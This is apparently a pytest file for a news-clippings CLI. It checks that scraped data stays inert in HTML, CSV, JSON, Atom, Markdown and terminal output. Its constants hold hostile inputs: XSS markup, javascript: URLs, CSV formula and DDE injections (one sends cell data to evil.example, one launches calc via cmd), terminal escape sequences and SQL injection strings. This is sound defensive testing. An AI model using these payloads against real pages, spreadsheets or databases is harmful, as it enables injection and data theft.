"""Everything scraped is data: every output format, fed hostile headlines, authors, outlets, ledes,
quotes and URLs (javascript: among them) through the CLI, keeps them inert.

HTML (roundup, timeline, clip book): parsed with lxml, the hostile page has no element, event
handler or script that the same page of a benign store lacks, and no javascript: link; the hostile
text is shown as text. CSV (query, export): no cell starts with = + - @ (formula injection). JSON,
JSON Lines and Atom: well-formed, the hostile strings come back as the very strings stored, and no
link is a javascript: URL. Markdown: no raw HTML and no javascript: link. Text tables and lines:
no terminal escape sequences.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import lxml.html
import pytest
from click.testing import CliRunner
from lxml import etree

from clippings.article import Clipping, CountClaim, Mention, Quote
from clippings.cli import main
from clippings.store.repository import Store

SCRIPT = "<script>alert('headline')</script>"
IMG = "<img src=x onerror=alert(1)>"
HEADLINE = f'=HYPERLINK("http://evil.example/?"&A1,"Protect the Results") {SCRIPT}{IMG} \x1b[2J\x1b[31mred'
AUTHORS = ["@SUM(1+1)*cmd|' /C calc'!A0", '<svg onload=alert("author")>', "+Tab\tAuthor"]
OUTLET = '-<b onclick="alert(2)">Evil & "Co"</b>'
LEDE = "-2+3 <iframe src=javascript:alert(4)></iframe> Protect the Results"
JS_URL = "javascript:alert(document.domain)"
QUOTE_URL = 'https://news.example/a?x="><script>alert(3)</script>'
DAY = datetime(2020, 11, 2, 12, 0, tzinfo=UTC)
PERSON = "Sean Eldridge"
CAMPAIGN = f"""
[campaign]
name = "Hostile <script>alert('campaign')</script>"
phrases = ["Protect the Results"]
people = ["{PERSON}"]

[[outlets]]
name = "Plain Outlet"
domains = ["news.example"]
"""
HOSTILE_TAGS = {"script", "img", "svg", "iframe", "b"}


def clipping(url: str, headline: str, outlet: str, authors: list[str], lede: str, hours: int) -> Clipping:
    quote_text = f"{SCRIPT} we are ready"
    body = f'"{quote_text}," said {PERSON}. 370 events {IMG}.'
    return Clipping(
        url=url, outlet=outlet, headline=headline, lede=lede, authors=authors,
        published_at=DAY + timedelta(hours=hours), language="en", body=body,
        mentions=[Mention("Protect the Results", "phrase", "headline", 0, 5, "Protect the Results"),
                  Mention(PERSON, "person", "body", 0, 5, PERSON)],
        alias_urls=[url], source_kind="feeds", fetched_at=DAY, agency=None,
        counts=[CountClaim(value=370, low=370, high=None, qualifier="exactly", unit=f"events {IMG}",
                           kind="events", span=f"370 events {IMG}", start=0, field="body")],
        quotes=[Quote(text=quote_text, speaker=PERSON, person=PERSON, start=1, end=1 + len(quote_text))],
    )


def fill(db: str, hostile: bool) -> None:
    with Store.open(db) as store:
        if hostile:
            store.upsert_clipping(clipping(JS_URL, HEADLINE, OUTLET, AUTHORS, LEDE, 0))
            store.upsert_clipping(clipping(QUOTE_URL, f"{IMG} second", "Plain Outlet", ["Ann"], LEDE, 1))
        else:
            store.upsert_clipping(clipping("https://news.example/1", "Protect the Results", "Some Outlet",
                                           ["Ann", "Bob", "Cy"], "Plain lede", 0))
            store.upsert_clipping(clipping("https://news.example/2", "Second", "Plain Outlet", ["Ann"], "Lede", 1))


@pytest.fixture(scope="module")
def dbs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("hostile")
    out: dict[str, Any] = {"campaign": root / "campaign.toml"}
    out["campaign"].write_text(CAMPAIGN, encoding="utf-8")
    for name, hostile in (("hostile", True), ("benign", False)):
        db = f"sqlite:///{root / name}.db"
        fill(db, hostile)
        out[name] = db
    out["root"] = root
    return out


def cli(*args: str) -> str:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout  # notices go to stderr


def shape(page: str) -> tuple[set[str], set[str]]:
    """The element tags and event-handler attributes of an HTML page."""
    doc = lxml.html.document_fromstring(page)
    tags = {el.tag for el in doc.iter() if isinstance(el.tag, str)}
    handlers = {name for el in doc.iter() if isinstance(el.tag, str) for name in el.attrib if name.startswith("on")}
    return tags, handlers


def script_links(page: str) -> set[str]:
    """Every href, src or action that is a javascript:, vbscript: or data: URL (images aside: the clip book's
    chart is a data:image/svg+xml, which an img element never runs)."""
    found = set()
    for el in lxml.html.document_fromstring(page).iter():
        if isinstance(el.tag, str):
            for attr in ("href", "src", "action", "formaction", "xlink:href"):
                value = (el.get(attr) or "").strip().lower()
                if value.startswith(("javascript:", "data:", "vbscript:")) and not value.startswith("data:image/"):
                    found.add(value)
    return found


def check_html(hostile: str, benign: str) -> None:
    tags, handlers = shape(hostile)
    benign_tags, benign_handlers = shape(benign)
    assert tags <= benign_tags, tags - benign_tags
    assert handlers <= benign_handlers, handlers - benign_handlers
    assert script_links(hostile) <= script_links(benign)  # (the clip book's own empty icon, data:,)
    scripts = [el.text or "" for el in lxml.html.document_fromstring(hostile).iter("script")]
    benign_scripts = [el.text or "" for el in lxml.html.document_fromstring(benign).iter("script")]
    assert len(scripts) == len(benign_scripts)  # the page's own scripts only
    assert not [s for s in scripts if "<script" in s.lower() or "<img" in s.lower()]  # data inside is escaped


@pytest.mark.parametrize("fmt", ["html"])
def test_roundup_html(dbs: dict[str, Any], fmt: str) -> None:
    pages = {k: cli("roundup", "--db", dbs[k], "--campaign", str(dbs["campaign"]), "--format", fmt)
             for k in ("hostile", "benign")}
    check_html(pages["hostile"], pages["benign"])
    assert "Evil &amp; &quot;Co&quot;" in pages["hostile"] or "Evil &amp; \"Co\"" in pages["hostile"]


def test_timeline_html(dbs: dict[str, Any]) -> None:
    pages = {}
    for k in ("hostile", "benign"):
        out = dbs["root"] / f"timeline-{k}.html"
        cli("timeline", "--db", dbs[k], "--format", "html", "--out", str(out))
        pages[k] = out.read_text(encoding="utf-8")
    check_html(pages["hostile"], pages["benign"])


def test_clip_book(dbs: dict[str, Any]) -> None:
    pages = {}
    for k in ("hostile", "benign"):
        out = dbs["root"] / f"book-{k}"
        cli("report", "--db", dbs[k], "--campaign", str(dbs["campaign"]), "--out", str(out))
        pages[k] = (out / "index.html").read_text(encoding="utf-8")
    check_html(pages["hostile"], pages["benign"])
    text = lxml.html.document_fromstring(pages["hostile"]).text_content()
    assert "<script>alert('headline')</script>" in text  # shown as text, not run


def test_roundup_text_and_markdown(dbs: dict[str, Any]) -> None:
    txt = cli("roundup", "--db", dbs["hostile"], "--format", "txt")
    assert "\x1b" not in txt
    md = cli("roundup", "--db", dbs["hostile"], "--format", "md")
    assert "\x1b" not in md
    assert "<script" not in md and "<img" not in md and "<svg" not in md
    assert "](javascript:" not in md.replace(" ", "").lower()


def test_roundup_json_keeps_the_strings(dbs: dict[str, Any]) -> None:
    data = json.loads(cli("roundup", "--db", dbs["hostile"], "--format", "json"))
    dumped = json.dumps(data)
    assert OUTLET in {line.get("outlet") for line in (data if isinstance(data, list) else data["lines"])}
    assert "javascript:" not in dumped or JS_URL in dumped  # a URL is data here, exactly as stored


def test_terminal_outputs_carry_no_escape_sequences(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'esc.db'}"
    with Store.open(db) as store:
        store.upsert_clipping(clipping("https://news.example/e", "A\x1b[31mB\x07C\x9bD", "O\x1b]0;title\x07",
                                       ["Z\x1b[2JQ"], "L", 0))
    for args in (["query"], ["outlets"], ["roundup", "--format", "txt"], ["roundup", "--format", "md"],
                 ["timeline"], ["sources"]):
        out = cli(*args, "--db", db)
        assert not any(ch in out for ch in "\x1b\x07\x9b"), (args, out)
    assert "A[31mBCD" in cli("query", "--db", db)  # the text stays, the escapes go


def test_query_formats(dbs: dict[str, Any]) -> None:
    table = cli("query", "--db", dbs["hostile"])
    assert "\x1b" not in table
    rows = json.loads(cli("query", "--db", dbs["hostile"], "--format", "json"))
    assert {r["headline"] for r in rows} == {HEADLINE, f"{IMG} second"}
    assert {r["outlet"] for r in rows} == {OUTLET, "Plain Outlet"}
    assert any(r["authors"] == AUTHORS for r in rows)
    lines = [json.loads(x) for x in cli("query", "--db", dbs["hostile"], "--format", "jsonl").splitlines() if x]
    assert {r["url"] for r in lines} == {JS_URL, QUOTE_URL}
    check_csv(cli("query", "--db", dbs["hostile"], "--format", "csv"))


def check_csv(text: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_exports(dbs: dict[str, Any]) -> None:
    check_csv(cli("export", "--db", dbs["hostile"], "--format", "csv"))
    lines = [json.loads(x) for x in cli("export", "--db", dbs["hostile"], "--format", "jsonl").splitlines() if x]
    assert {r["headline"] for r in lines} == {HEADLINE, f"{IMG} second"}
    atom = cli("export", "--db", dbs["hostile"], "--format", "atom")
    root = etree.fromstring(atom.encode(), etree.XMLParser(resolve_entities=False, no_network=True))
    ns = {"a": "http://www.w3.org/2005/Atom"}
    assert not [h for h in root.xpath("//a:link/@href", namespaces=ns) if h.lower().startswith("javascript:")]
    titles = root.xpath("//a:entry/a:title/text()", namespaces=ns)
    assert f"{IMG} second" in titles  # the text, escaped by the XML and read back as it was
    assert not root.xpath("//script|//img|//a:script", namespaces=ns)


def test_sql_goes_through_bound_parameters(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'sql.db'}"
    sneaky_outlet = "O' OR '1'='1"
    with Store.open(db) as store:
        store.upsert_clipping(clipping("https://news.example/s1", "Robert'); DROP TABLE clippings;--",
                                       sneaky_outlet, ["a\"; DELETE FROM outlets; --"], "L", 0))
        store.upsert_clipping(clipping("https://news.example/s2", "Plain", "Plain Outlet", ["Ann"], "L", 1))
    rows = json.loads(cli("query", "--db", db, "--format", "json", "--outlet", sneaky_outlet))
    assert [r["headline"] for r in rows] == ["Robert'); DROP TABLE clippings;--"]
    for args in (["--outlet", "x' OR '1'='1"], ["--term", "x' OR 1=1 --"], ["--outlet", "%"], ["--lang", "en' --"]):
        assert json.loads(cli("query", "--db", db, "--format", "json", *args)) == [], args
    assert len(json.loads(cli("query", "--db", db, "--format", "json"))) == 2  # nothing dropped or deleted
    assert {r["outlet"] for r in json.loads(cli("outlets", "--db", db, "--format", "json"))} == {
        sneaky_outlet, "Plain Outlet"}
